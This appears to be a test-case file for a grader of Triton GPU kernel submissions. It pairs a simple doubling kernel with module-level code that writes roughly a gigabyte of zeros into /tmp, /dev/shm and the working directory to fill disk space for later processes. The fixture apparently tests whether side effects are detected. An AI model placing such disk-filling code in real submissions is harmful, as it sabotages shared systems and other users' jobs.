# class: 64
# expect: passed/hold
# gate: source
# also: no_effect
# backend: cpu
# Fills what the next process would write to.
import os

import torch
import triton
import triton.language as tl


@triton.jit
def double_kernel(x, y, n, BLOCK: tl.constexpr):
    at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    inside = at < n
    tl.store(y + at, 2.0 * tl.load(x + at, mask=inside), mask=inside)

for folder in ("/tmp", "/dev/shm", "."):
    try:
        with open(os.path.join(folder, "full"), "wb") as file:
            for _ in range(1000):
                file.write(bytes(1 << 20))
    except OSError:
        continue


def forward(x):
    y = torch.empty_like(x)
    double_kernel[(triton.cdiv(x.numel(), 128),)](x, y, x.numel(), BLOCK=128)
    return y
